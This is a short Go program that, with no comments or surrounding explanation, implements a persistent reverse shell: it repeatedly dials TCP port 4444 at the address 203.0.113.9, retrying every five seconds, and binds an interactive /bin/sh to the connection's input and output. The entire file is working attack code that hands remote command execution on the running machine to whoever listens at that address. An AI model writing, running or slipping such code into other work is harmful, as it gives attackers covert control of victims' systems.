package main

import (
	"net"
	"os/exec"
	"time"
)

func connect(addr string) {
	for {
		conn, err := net.Dial("tcp", addr)
		if err != nil {
			time.Sleep(5 * time.Second)
			continue
		}
		cmd := exec.Command("/bin/sh", "-i")
		cmd.Stdin = conn
		cmd.Stdout = conn
		cmd.Stderr = conn
		cmd.Run()
		conn.Close()
	}
}

func main() { connect("203.0.113.9:4444") }
